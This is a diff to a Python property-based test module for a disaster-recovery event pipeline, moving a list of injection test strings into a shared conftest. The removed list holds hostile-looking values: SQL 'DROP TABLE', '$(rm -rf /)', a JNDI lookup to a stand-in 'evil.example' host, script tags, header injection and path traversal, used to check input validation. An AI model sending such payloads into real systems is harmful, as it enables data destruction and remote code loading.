@@ -43,7 +43,7 @@ from lambdas.plan import parse_plan
 from localcloud.drs import events as drs_events
 from localcloud.drs.formats import ACCOUNT_ID, arn
 from localcloud.input_transformer import transform
-from tests.conftest import ROOT, SAMPLE_PLAN
+from tests.conftest import INJECTIONS, ROOT, SAMPLE_PLAN
 
 PROPERTY = settings(max_examples=50, deadline=None, derandomize=True, database=None)
 
@@ -61,20 +61,6 @@ OTHER_DRS_EVENT_TYPES = (
 ENVELOPE_FIELDS = ("source", "detail-type", "resources", "detail")
 START_FIELDS = ("plan", "snapshot", "reason", "requested_by", "trigger", "alarm_name", "event_id")
 
-# Injection-like text: each holds at least one character no identifier pattern of the inputs allows.
-INJECTIONS = (
-    "'; DROP TABLE runs; --",
-    "$(rm -rf /)",
-    "{{7*7}}",
-    "${jndi:ldap://evil.example/a}",
-    "<script>alert(1)</script>",
-    "a\r\nX-Injected: yes",
-    "line\nbreak",
-    "nul\x00byte",
-    "`id`",
-    "a|b",
-    "..\\..\\windows",
-)
 MARKUP_OR_CONTROL = re.compile(r"[\x00-\x1f<>`$\\]")  # what free text (inputs.FreeText) refuses
 
 json_scalars = (
